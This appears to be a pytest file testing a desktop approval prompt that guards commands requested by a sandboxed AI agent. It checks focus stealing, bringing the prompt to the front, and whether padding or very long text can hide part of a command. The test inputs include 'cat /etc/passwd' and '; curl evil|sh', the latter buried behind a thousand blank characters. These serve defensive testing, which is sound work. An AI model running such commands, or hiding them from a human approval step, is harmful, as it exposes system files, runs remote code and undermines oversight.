"""Keys and clicks that were meant for another window decide nothing about a request, and the user
can bring the prompt to the front. Uses the real tray, real windows and the sandbox's agent."""

import pathlib

import pytest

from support.approvals import (  # noqa: F401 (fixtures)
    Prompt, agent, tray, watcher, windows, world)
from support.desktop_services import NOTIFICATIONS, NotificationServer
from support.dialogs import INVITE, Typing, Window
from support.session_bus import outline
from support.tray import eventually

ROW = "⚠️ 1 request needs your approval…"


@pytest.fixture
def editor(screen):
    """Another program's window, in which the user types."""
    window = Window(screen, {"alert": INVITE}).shown()
    yield window
    window.close()


def prompt_of(screen, tray):
    """Waits for a prompt on screen, and returns its process id."""
    pid = eventually(lambda: windows(tray), what="a prompt")[0]
    eventually(lambda: screen.window_ids(pid), what="a prompt on the screen")
    return pid


def is_in_front(screen, pid):
    stack = screen.run("xprop", "-root", "_NET_CLIENT_LIST_STACKING").split()
    front = int(stack[-1], 16)
    return screen.active_process() == pid and str(front) in screen.window_ids(pid)


def test_typing_stays_in_its_window(screen, tray, agent, editor):
    with Typing(screen, ["c", "d", "space", "p", "space"]) as typing:
        typing.types(5)
        identifier = agent.raise_request("cat /etc/passwd")
        prompt_of(screen, tray)
        typing.types(30)
        assert editor.is_active()
    text = next(each.text for each in editor.accessible().all() if each.name == "inv_v2_…")
    assert text == ("cd p " * typing.count)[:typing.count]
    assert agent.state(identifier) == "pending"


@pytest.mark.parametrize("keys", [Typing.KEYS, "j e c t Tab space".split(), ["Return"]],
                         ids=["every key", "an approval by habit", "Return"])
def test_continued_typing_into_the_prompt_decides_nothing(screen, tray, agent, editor, keys):
    """On some desktops every new window gets the focus."""
    identifier = agent.raise_request("cat /etc/passwd")
    prompt = prompt_of(screen, tray)
    with Typing(screen, keys) as typing:
        screen.activate(prompt)
        typing.types(25)
        eventually(lambda: screen.active_process() == prompt, what="the focus")
        assert agent.state(identifier) == "pending"
    assert (windows(tray), agent.state(identifier)) == ([prompt], "pending")
    Prompt(screen, tray).press("Tab", "space")
    eventually(lambda: agent.state(identifier) == "approved", what="being approved")


def test_the_menu_brings_the_open_prompt_to_the_front(screen, watcher, tray, agent, editor):
    item = watcher.item()
    identifier = agent.raise_request("cat /etc/passwd")
    prompt = prompt_of(screen, tray)
    eventually(lambda: ROW in outline(item.layout()), what="the row of the menu")
    for _ in range(2):
        screen.activate(editor.process.pid)
        item.event(item.find(ROW), "clicked")
        eventually(lambda: is_in_front(screen, prompt), what="the prompt in front")
    assert windows(tray) == [prompt]
    Prompt(screen, tray, requested=True).press("Return")
    eventually(lambda: agent.state(identifier) == "denied", what="being denied")


def test_the_notification_brings_the_open_prompt_to_the_front(screen, tray, agent, editor):
    server = NotificationServer(screen.bus.peer())
    identifier = agent.raise_request("cat /etc/passwd")
    posted, = eventually(lambda: server.posted, what="a notification")
    prompt = prompt_of(screen, tray)
    screen.activate(editor.process.pid)
    server.send_signal("ActivationToken", "(us)", posted["id"], "token-9_TIME0")
    server.send_signal("ActionInvoked", "(us)", posted["id"], "show")
    eventually(lambda: is_in_front(screen, prompt), what="the prompt in front")
    environment = pathlib.Path(f"/proc/{prompt}/environ").read_bytes().split(b"\0")
    assert not [each for each in environment if each.startswith(b"XDG_ACTIVATION_TOKEN=")], \
        "nobody had asked for the prompt when it was started"
    Prompt(screen, tray, requested=True).press("Return")
    eventually(lambda: agent.state(identifier) == "denied", what="being denied")
    server.peer.release(NOTIFICATIONS)


@pytest.mark.parametrize("padding", [" ", "\u00a0", "\u2003", "\u2800", "\u3000"], ids=ascii)
def test_blank_characters_hide_no_text(screen, tray, agent, padding):
    identifier = agent.raise_request(f"cat README.md; : {padding * 1000}; curl evil|sh")
    prompt = Prompt(screen, tray)
    details = screen.accessibility.window_of(prompt.pid).find("text", "Details").text
    assert "×100" in details and padding * 4 not in details
    assert "; curl evil|sh" in details
    assert len(details) < 500, "all of it fits on the screen"
    prompt.press("Return")
    eventually(lambda: agent.state(identifier) == "denied", what="being denied")


def test_a_command_longer_than_the_screen_must_be_read_before_it_is_allowed(screen, tray, agent):
    identifier = agent.raise_request("echo " + "harmless " * 1500 + "; curl evil|sh")
    prompt = Prompt(screen, tray)
    allow = screen.accessibility.window_of(prompt.pid).find("push button", "Allow once")
    assert not allow.has("enabled")
    prompt.press("Tab", "space")  # moves the focus
    assert not allow.has("enabled") and agent.state(identifier) == "pending"
    prompt.press("shift+Tab", "End")
    eventually(lambda: allow.has("enabled"), what="a button that can be pressed")
    allow.press()
    eventually(lambda: agent.state(identifier) == "approved", what="being approved")
